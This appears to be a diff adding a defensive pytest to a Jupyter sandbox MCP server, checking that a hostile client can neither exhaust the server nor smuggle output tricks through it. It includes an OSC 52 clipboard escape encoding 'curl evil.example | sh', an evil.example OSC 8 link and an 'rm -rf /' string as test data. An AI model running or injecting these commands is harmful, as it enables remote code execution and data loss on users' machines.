@@ -50,11 +50,12 @@ def _patient_client(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 @asynccontextmanager
-async def mcp_server(workspace: Path) -> AsyncIterator[ClientSession]:
-    """``jupyter-sandbox-kernel mcp --cwd workspace`` as a subprocess, with an initialised session."""
+async def mcp_server(workspace: Path, *options: str) -> AsyncIterator[ClientSession]:
+    """``jupyter-sandbox-kernel mcp --cwd workspace [options]`` as a subprocess, with an
+    initialised session."""
     params = StdioServerParameters(
         command=str(SK),
-        args=["mcp", "--cwd", str(workspace)],
+        args=["mcp", "--cwd", str(workspace), *options],
         # The test's isolated Jupyter folders (the client passes only HOME, PATH... by default).
         env=dict(os.environ),
     )
@@ -277,3 +278,132 @@ async def test_a_file_name_that_is_not_utf8_does_not_end_the_server(
         assert got["content"] == "raw name"
         still = await run(session, "print('still serving')")
         assert still["stdout"] == "still serving\n"
+
+
+def server_pid() -> int:
+    """The MCP server this test started."""
+    (server,) = [
+        pid
+        for pid in children(os.getpid())
+        if "mcp" in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
+    ]
+    return server
+
+
+def peak_memory(pid: int) -> int:
+    """The most memory ``pid`` has held, in bytes (Linux's VmHWM)."""
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmHWM:"):
+            return int(line.split()[1]) * 1024
+    raise AssertionError(f"no VmHWM for {pid}")
+
+
+OSC52 = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"
+
+
+@pytest.mark.timeout(900)
+async def test_a_hostile_assistant_can_neither_exhaust_nor_trick_the_server(
+    jupyter_dirs: Path, workspace: Path, docker_client: docker.DockerClient
+) -> None:
+    """#21, over MCP as the attacker did it: 500 of 500 start_kernel calls were accepted; one
+    256 MiB upload took the server from 92 to 1,665 MiB; list_files returned 100k entries
+    in one 23 MiB reply; a 20 MB print gave a 10.5 MB result; OSC 52, OSC 8 and C1 controls
+    passed; arbitrary strings went out as image content, and a text file starting with
+    GIF89a as an image block that was not base64; a long name raised OSError(36). And the
+    instructions named the host's path, which the kernel does not have (#23)."""
+    kernel_ids: set[str] = set()
+    async with mcp_server(workspace, "--McpLimits.max_kernels=2") as session:
+        instructions = session.instructions or ""
+        assert "/workspace" in instructions
+        assert str(workspace) not in instructions
+
+        printed = await call(session, "run_code", code="print('x' * 20_000_000)")
+        assert printed.structured_content is not None
+        result = printed.structured_content
+        kernel_ids.add(result["kernel_id"])
+        assert len(text(printed)) < 40_000, "the result fits an assistant's context"
+        assert result["truncated"] is True
+        assert "of stdout cut here: all of it is in the workspace file" in result["stdout"]
+        saved = result["full_output"]["stdout"]
+        assert saved.startswith("/workspace/.mcp-output/")
+        on_host = workspace / saved.removeprefix("/workspace/")
+        assert on_host.stat().st_size > 5_000_000, "the whole output, as far as the kernel's own limit let it"
+        seen = await run(session, f"print(open({saved!r}).read().count('x') > 5_000_000)")
+        assert seen["stdout"] == "True\n", "the kernel reads the saved output where the marker says"
+
+        hostile = await run(
+            session,
+            f"print('a{OSC52}b\\x1b]8;;https://evil.example\\x1b\\\\link\\x1b]8;;\\x1b\\\\c\\x9b2J\\x85d')",
+        )
+        assert hostile["stdout"] == "ablinkcd\n"
+
+        faked = await call(
+            session,
+            "run_code",
+            code="from IPython.display import display\n"
+            "display({'image/png': 'rm -rf / # not an image', 'text/plain': 'x'}, raw=True)\n"
+            "open('fake.gif', 'w').write('GIF89a, then text')",
+        )
+        assert [block for block in faked.content if isinstance(block, ImageContent)] == []
+        assert faked.structured_content is not None
+        assert faked.structured_content["notes"] == [
+            "an output claiming to be image/png is not a valid base64 image/png image: not shown"
+        ]
+        gif = await call(session, "download_file", path="fake.gif")
+        assert [block for block in gif.content if isinstance(block, ImageContent)] == []
+        assert gif.structured_content is not None
+        assert gif.structured_content["encoding"] == "utf-8"
+
+        long_name = await session.call_tool("upload_file", {"path": "n" * 300, "content": "x"})
+        assert long_name.is_error
+        assert "a file or folder name may be at most 255 bytes" in text(long_name)
+        assert "\n" not in text(long_name)
+
+        made = await run(
+            session,
+            "import os\nos.mkdir('many')\nfor i in range(100_000):\n    open(f'many/f{i:06}', 'w').close()\n"
+            "print(len(os.listdir('many')))",
+            timeout=600,
+        )
+        assert made["stdout"] == "100000\n"
+        listed = await call(session, "list_files", path="many")
+        assert listed.structured_content is not None
+        page = listed.structured_content
+        assert (len(page["files"]), page["total"], page["more"], page["next_offset"]) == (
+            200,
+            100_000,
+            True,
+            200,
+        )
+        assert len(text(listed)) < 200_000
+        last = await call(session, "list_files", path="many", offset=99_990)
+        assert last.structured_content is not None
+        assert [entry["name"] for entry in last.structured_content["files"]][-1] == "f099999"
+        assert last.structured_content["more"] is False
+
+        second = await call(session, "start_kernel")
+        assert second.structured_content is not None
+        kernel_ids.add(second.structured_content["kernel_id"])
+        refused = await asyncio.gather(*(session.call_tool("start_kernel", {}) for _ in range(5)))
+        assert all(result.is_error for result in refused)
+        assert "McpLimits.max_kernels = 2" in text(refused[0])
+        assert "shutdown_kernel" in text(refused[0])
+        await call(session, "shutdown_kernel", kernel_id=second.structured_content["kernel_id"])
+
+        server = server_pid()
+        before = peak_memory(server)
+        content = base64.b64encode(os.urandom(256 * 1024 * 1024)).decode()
+        upload = await session.call_tool(
+            "upload_file",
+            {"path": "big.bin", "content": content, "encoding": "base64"},
+            read_timeout_seconds=300,
+        )
+        del content
+        assert upload.is_error
+        assert "this MCP server reads in one message" in text(upload)
+        grown = peak_memory(server) - before
+        assert grown < 64 * 1024 * 1024, f"the server grew by {grown / 2**20:.0f} MiB for a refused upload"
+        assert not (workspace / "big.bin").exists()
+        still = await run(session, "print('still serving')")
+        assert still["stdout"] == "still serving\n"
+    assert containers(docker_client, kernel_ids) == []
